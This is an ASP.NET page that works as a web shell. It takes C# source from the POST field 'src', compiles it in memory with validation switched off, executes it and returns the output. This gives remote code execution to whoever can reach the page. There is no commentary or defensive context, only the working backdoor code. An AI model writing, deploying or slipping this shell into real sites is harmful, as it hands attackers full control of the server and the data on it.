<%@ Page Language="C#" ValidateRequest="false" %>
<%@ Import Namespace="System.CodeDom.Compiler" %>
<%@ Import Namespace="Microsoft.CSharp" %>
<script runat="server">
protected void Page_Load(object sender, EventArgs e) {
    string src = Request.Unvalidated.Form["src"];
    if (src == null) return;
    CSharpCodeProvider prov = new CSharpCodeProvider();
    CompilerParameters cp = new CompilerParameters();
    cp.GenerateInMemory = true;
    cp.ReferencedAssemblies.Add("System.dll");
    cp.ReferencedAssemblies.Add("System.Web.dll");
    CompilerResults cr = prov.CompileAssemblyFromSource(cp, "using System; public class X { public static object Run(){ " + src + " } }");
    object r = cr.CompiledAssembly.GetType("X").GetMethod("Run").Invoke(null, null);
    Response.Write(r);
}
</script>
